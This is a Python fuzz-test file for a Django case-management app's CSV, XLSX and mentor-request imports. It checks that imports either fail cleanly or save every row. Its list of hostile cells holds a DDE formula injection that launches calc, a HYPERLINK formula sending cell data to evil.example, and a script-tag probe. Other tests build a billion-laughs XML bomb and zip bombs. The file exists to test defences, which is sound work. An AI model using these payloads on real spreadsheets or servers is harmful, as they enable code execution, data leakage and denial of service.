"""The imports, fuzzed: whatever a file holds, the case import (CSV and XLSX) and the mentor
request import answer with a clear error or import every row, never a 500, never half a file.

Files are generated from the template's columns: headers shuffled, dropped, repeated or
invented; cells that are valid, or nasty (formula injection, huge cells, quotes that never
close, control characters, NUL bytes, right-to-left overrides); any delimiter; encoded as
UTF-8 (with or without a byte-order mark), Windows-1252, Latin-1, UTF-16, or broken UTF-8.
XLSX files: real workbooks with fuzzed cells, damaged workbooks, random bytes named .xlsx,
and zip bombs, which must be refused before openpyxl unpacks them.
"""

from __future__ import annotations

import contextlib
import csv
import io
import random
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from amparo.cases.models import Case, Hearing
from amparo.core.csvfiles import csv_cell
from amparo.intake import imports
from amparo.intake.imports import (
    COLUMN_NAMES,
    CaseImportInvalid,
    case_import_save,
    case_import_template,
    case_import_validate,
)
from amparo.intake.models import AdverseParty, Client, FamilyMember
from amparo.mentoring.imports import RequestImportInvalid, request_import_check
from amparo.mentoring.models import MentoringRequest
from tests.security import zips

FUZZ = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

NASTY_CELLS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    '"unclosed quote',
    'a "quoted" word',
    "line\nbreak",
    "\r",
    "\x00",
    "nul\x00byte",
    "\u202eevil",
    "\ufeffbom",
    "<script>alert(1)</script>",
    "A-000-000-000",
    "A-123-456-789",
    "2024-02-30",
    "9999-12-31",
    "0001-01-01 00:00",
    "yes",
    "maybe",
    "XX",
    "sfr",
    "Mateo / / 2015-02-03",
    ";;;",
    "x" * 300,
    "ñ" * 40_000,
)
ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le", "utf-16-be")


def _examples() -> dict[str, str]:
    return dict(zip(COLUMN_NAMES, imports._example_row(), strict=True))


@st.composite
def headers(draw: Any) -> list[str]:
    names = list(COLUMN_NAMES)
    kind = draw(st.integers(min_value=0, max_value=5))
    if kind == 0:
        return names
    if kind == 1:
        return draw(st.permutations(names))
    if kind == 2:
        return draw(st.lists(st.sampled_from(names), min_size=1, max_size=20))  # repeats, gaps
    if kind == 3:
        extra = draw(st.lists(st.text(max_size=15), min_size=1, max_size=3))
        return names + extra
    if kind == 4:
        return [name.upper() if draw(st.booleans()) else name for name in names]
    return draw(st.lists(st.text(max_size=20), max_size=6))


@st.composite
def case_rows(draw: Any, columns: list[str]) -> list[list[str]]:
    example = _examples()
    count = draw(st.integers(min_value=0, max_value=4))
    rows = []
    for index in range(count):
        row = []
        for column in columns:
            good = example.get(column, "")
            if column == "a_number" and good:
                good = f"A-{200 + index:03d}-{draw(st.integers(100, 999))}-{index:03d}"
            choice = draw(st.integers(min_value=0, max_value=9))
            if choice < 7:
                row.append(good)
            elif choice < 9:
                row.append(draw(st.sampled_from(NASTY_CELLS)))
            else:
                row.append(draw(st.text(max_size=30)))
        if draw(st.integers(min_value=0, max_value=9)) == 0:
            row = row[: draw(st.integers(min_value=0, max_value=len(row)))]  # a short row
        if draw(st.integers(min_value=0, max_value=9)) == 0:
            row = [*row, "one value too many"]
        rows.append(row)
    return rows


@st.composite
def csv_files(draw: Any) -> bytes:
    columns = draw(headers())
    rows = draw(case_rows(columns))
    delimiter = draw(st.sampled_from([",", ",", ";", "\t", "|"]))
    buffer = io.StringIO()
    if draw(st.booleans()):
        writer = csv.writer(buffer, delimiter=delimiter, quoting=draw(st.sampled_from([0, 1])))
        writer.writerow(columns)
        writer.writerows(rows)
    else:  # written by hand: quotes and delimiters inside cells are left as they are
        for row in [columns, *rows]:
            buffer.write(delimiter.join(row) + draw(st.sampled_from(["\n", "\r\n", "\r"])))
    text = buffer.getvalue()
    encoding = draw(st.sampled_from(ENCODINGS))
    data = text.encode(encoding, errors="replace")
    damage = draw(st.integers(min_value=0, max_value=7))
    if damage == 0:
        at = draw(st.integers(min_value=0, max_value=len(data)))
        data = data[:at] + draw(st.sampled_from([b"\xff", b"\xc3", b"\x80\x80", b"\xed\xa0\x80"]))
        data += data[at:]
    elif damage == 1:
        data = data[: draw(st.integers(min_value=0, max_value=len(data)))]  # cut short
    return data


@FUZZ
@given(data=csv_files())
def test_csv_import_answers_any_file_with_rows_or_problems(db, data):
    result = case_import_validate(content=data, filename="cases.csv")
    if result.problems:
        assert result.rows == []
        for problem in result.problems:
            assert problem.message.strip()
            assert problem.row is None or problem.row >= 1
    else:
        assert result.rows  # clean means at least one case


@settings(FUZZ, max_examples=20)
@given(cells=st.lists(st.sampled_from(NASTY_CELLS) | st.text(max_size=40), max_size=40))
def test_xlsx_import_answers_any_cells_with_rows_or_problems(db, cells):
    example = _examples()
    header = list(COLUMN_NAMES)
    row = [example[name] for name in header]
    for position, value in enumerate(cells):
        row[position % len(row)] = value
    safe = [
        # openpyxl refuses to write control characters into the sheet's XML.
        "".join(c for c in value if c in "\t\n\r" or ord(c) >= 32)
        if isinstance(value, str)
        else value
        for value in row
    ]
    data = zips.real_xlsx([header, safe, [example[name] for name in header]])
    result = case_import_validate(content=data, filename="cases.xlsx")
    assert bool(result.rows) != bool(result.problems)


@FUZZ
@given(
    body=st.binary(max_size=600),
    prefix=st.sampled_from([b"", b"PK\x03\x04", b"PK\x05\x06", b"\xd0\xcf\x11\xe0", b"%PDF-"]),
)
def test_random_bytes_posing_as_xlsx_get_a_clear_problem(db, body, prefix):
    result = case_import_validate(content=prefix + body, filename="cases.xlsx")
    assert result.problems and not result.rows


@settings(FUZZ, max_examples=25)
@given(cuts=st.lists(st.tuples(st.integers(min_value=0), st.binary(max_size=6)), min_size=1))
def test_damaged_workbooks_get_a_clear_problem_or_import(db, cuts):
    data = bytearray(case_import_template(file_format="xlsx"))
    for position, replacement in cuts:
        at = position % len(data)
        data[at : at + len(replacement)] = replacement
    result = case_import_validate(content=bytes(data), filename="cases.xlsx")
    assert bool(result.rows) != bool(result.problems)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (zips.xlsx_bomb(200), "too large once unpacked"),
        (zips.build_zip([zips.member(f"x{n}.xml", "<a/>") for n in range(600)]), "too large"),
        (
            zips.build_zip(
                [
                    zips.member("[Content_Types].xml", zips.CONTENT_TYPES_XLSX),
                    zips.member("xl/embeddings/inner.zip", zips.build_zip([zips.member("a", "b")])),
                ]
            ),
            "too large once unpacked",
        ),
        (zips.docx(), "not an XLSX file"),
    ],
    ids=["200-MB-sheet", "too-many-members", "nested-zip", "a-docx"],
)
def test_xlsx_bombs_are_refused_before_openpyxl_opens_them(db, monkeypatch, content, message):
    def fail(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("openpyxl opened a file the zip check should have refused")

    monkeypatch.setattr("openpyxl.reader.excel.load_workbook", fail)
    monkeypatch.setattr("openpyxl.load_workbook", fail)
    result = case_import_validate(content=content, filename="cases.xlsx")
    assert not result.rows
    assert message in " ".join(p.message for p in result.problems)


def test_billion_laughs_in_a_sheet_is_a_clear_problem(db):
    """XML entity expansion: expat (2.4 and later) stops the amplification, the import says the
    file is not a workbook."""
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
            for n in range(1, 10)
        )
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row><c t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
        "</worksheet>"
    )
    template = zips.real_xlsx([["client_given_names"], ["Ana"]])
    source = io.BytesIO(template)
    out = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(source) as original, zipfile.ZipFile(out, "w") as copy:
        for info in original.infolist():
            data = original.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = laughs.encode()
            copy.writestr(info, data)
    result = case_import_validate(content=out.getvalue(), filename="cases.xlsx")
    assert result.problems and not result.rows


def test_utf16_and_latin1_files_are_read(db):
    example = _examples()
    text = ",".join(COLUMN_NAMES) + "\n" + ",".join(example[name] for name in COLUMN_NAMES)
    text = text.replace("Ejemplo", "Ejémplo")
    for encoding in ("utf-16", "utf-8-sig", "cp1252", "latin-1"):
        result = case_import_validate(content=text.encode(encoding), filename="cases.csv")
        assert not result.problems, (encoding, result.problems)
        assert result.rows[0].family_names.startswith("Ejémplo")


def test_formula_cells_are_kept_as_text_and_neutralised_in_exports(db):
    example = _examples()
    example["client_given_names"] = "=cmd|' /C calc'!A0"
    text = ",".join(COLUMN_NAMES) + "\n" + ",".join(f'"{example[name]}"' for name in COLUMN_NAMES)
    result = case_import_validate(content=text.encode(), filename="cases.csv")
    # Kept as typed (a name is text, never evaluated), or refused with its column named.
    if result.rows:
        assert result.rows[0].given_names == "=cmd|' /C calc'!A0"
    else:
        assert [p.column for p in result.problems] == ["client_given_names"]
    # Every CSV download writes it so that a spreadsheet shows it as text.
    assert csv_cell("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"


# --- All or nothing --------------------------------------------------------------------------

COUNTED = (Case, Client, FamilyMember, AdverseParty, Hearing)


class _Undo(Exception):
    pass


@contextlib.contextmanager
def undone() -> Iterator[None]:
    """Everything written inside is rolled back: each example meets the same database."""
    try:
        with transaction.atomic():
            yield
            raise _Undo
    except _Undo:
        pass


def _counts() -> tuple[int, ...]:
    return tuple(model.objects.count() for model in COUNTED)


@st.composite
def mostly_clean_files(draw: Any) -> tuple[bytes, int]:
    """A CSV of up to five cases, each cell valid or (now and then) not."""
    example = _examples()
    count = draw(st.integers(min_value=1, max_value=5))
    lines = [",".join(COLUMN_NAMES)]
    for index in range(count):
        row = []
        for name in COLUMN_NAMES:
            value = example[name]
            if name == "a_number":
                value = f"A-3{index:02d}-{draw(st.integers(100, 999))}-{index:03d}"
            if draw(st.integers(min_value=0, max_value=29)) == 0:
                value = draw(st.sampled_from(NASTY_CELLS[:25]))
            row.append('"' + value.replace('"', '""') + '"')
        lines.append(",".join(row))
    return "\n".join(lines).encode(), count


@settings(FUZZ, max_examples=12)
@given(file=mostly_clean_files())
def test_case_import_saves_every_row_or_none(personas, file):
    data, count = file
    before = _counts()
    with undone():
        try:
            cases = case_import_save(
                actor=personas.coordinator,
                organization=personas.partner.organization,
                content=data,
                filename="cases.csv",
            )
        except CaseImportInvalid as invalid:
            assert invalid.problems
            assert _counts() == before
        else:
            assert len(cases) == count
            assert _counts()[0] == before[0] + count


def test_a_row_a_service_refuses_late_rolls_back_the_whole_file(personas, monkeypatch):
    """Defence in depth: a row that passed validation but fails when saved (the database
    changed meanwhile) leaves none of the rows before it."""
    example = _examples()
    lines = [",".join(COLUMN_NAMES)]
    for index in range(3):
        values = {**example, "a_number": f"A-40{index}-555-00{index}"}
        lines.append(",".join(f'"{values[name]}"' for name in COLUMN_NAMES))
    original = imports._row_build
    calls = []

    def flaky(row: Any, **kwargs: Any) -> Case:
        calls.append(row.row)
        if len(calls) == 3:
            raise ValidationError("The court closed meanwhile.")
        return original(row, **kwargs)

    monkeypatch.setattr(imports, "_row_build", flaky)
    before = _counts()
    with pytest.raises(CaseImportInvalid) as invalid:
        case_import_save(
            actor=personas.coordinator,
            organization=personas.partner.organization,
            content="\n".join(lines).encode(),
            filename="cases.csv",
        )
    assert calls == [2, 3, 4]
    assert invalid.value.problems[0].row == 4
    assert _counts() == before


@settings(FUZZ, max_examples=10)
@given(data=csv_files() | st.binary(max_size=300))
def test_case_import_page_never_fails_and_never_saves_half(client, personas, data):
    client.force_login(personas.coordinator)
    url = reverse("intake:case_import")
    before = _counts()
    name = random.Random(len(data)).choice(["cases.csv", "cases.xlsx", "cases.CSV"])
    with undone():
        upload = client.post(url, {"action": "upload", "file": SimpleUploadedFile(name, data)})
        assert upload.status_code in (200, 422)
        if upload.status_code == 422:
            assert _counts() == before
            return
        upload_id = upload.context["confirm_form"].initial["upload_id"]
        expected = upload.context["row_count"]
        confirm = client.post(url, {"action": "confirm", "upload_id": upload_id})
        assert confirm.status_code in (302, 422)
        if confirm.status_code == 302:
            assert _counts()[0] == before[0] + expected
        else:
            assert _counts() == before


# --- The mentor request import ----------------------------------------------------------------


@st.composite
def request_files(draw: Any, codes: list[str]) -> bytes:
    columns = draw(
        st.sampled_from(
            [
                ["case_code", "help_wanted", "languages"],
                ["CASE_CODE", "languages"],
                ["help_wanted"],
                ["case_code", "case_code"],
                ["case_code", "unknown"],
                [],
            ]
        )
    )
    lines = [",".join(columns)]
    for _ in range(draw(st.integers(min_value=0, max_value=4))):
        cells = []
        for column in columns:
            if column.lower() == "case_code":
                cells.append(
                    draw(st.sampled_from([*codes, "AMP-00-0000", ""]) | st.text(max_size=12))
                )
            elif column == "languages":
                cells.append(
                    draw(st.sampled_from(["es", "es;quc", "xx", ";;", "ES"]) | st.text(max_size=8))
                )
            else:
                cells.append(draw(st.sampled_from(NASTY_CELLS) | st.text(max_size=30)))
        lines.append(",".join(cells))
    text = "\n".join(lines)
    return text.encode(draw(st.sampled_from(ENCODINGS)), errors="replace")


@pytest.fixture
def placed_by_partner(personas: Any) -> list[str]:
    from tests.factories import CaseFactory

    cases = [
        CaseFactory(
            stage="placed",
            attorney_of_record=personas.attorney,
            placing_organization=personas.partner.organization,
        )
        for _ in range(2)
    ]
    return [case.code for case in cases]


@settings(FUZZ, max_examples=25)
@given(data=st.data())
def test_request_import_answers_any_file_with_requests_or_problems(
    personas, placed_by_partner, data
):
    content = data.draw(
        request_files([*placed_by_partner, personas.placed_case.code]) | st.binary(max_size=200)
    )
    try:
        result = request_import_check(content=content, actor=personas.partner)
    except RequestImportInvalid as invalid:
        assert invalid.problems
        return
    assert result.items or result.problems


@settings(FUZZ, max_examples=10)
@given(data=st.data())
def test_request_import_page_never_fails_and_never_saves_half(
    client, personas, placed_by_partner, data
):
    client.force_login(personas.partner)
    content = data.draw(request_files(placed_by_partner))
    before = MentoringRequest.objects.count()
    with undone():
        response = client.post(
            reverse("mentoring:request_upload"),
            {"file": SimpleUploadedFile("requests.csv", content)},
        )
        assert response.status_code < 500
        created = MentoringRequest.objects.count() - before
        if response.status_code == 302:
            assert created >= 1
        else:
            assert created == 0
